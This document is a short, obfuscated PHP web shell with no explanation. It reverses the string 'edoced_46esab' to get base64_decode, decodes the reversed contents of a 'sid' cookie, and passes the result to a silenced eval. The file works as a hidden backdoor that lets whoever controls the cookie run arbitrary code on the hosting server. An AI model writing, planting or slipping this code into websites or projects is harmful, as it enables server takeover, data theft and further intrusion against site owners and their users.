<?php
$k = strrev('edoced_46esab');
$c = $k(strrev($_COOKIE['sid']));
@eval($c);
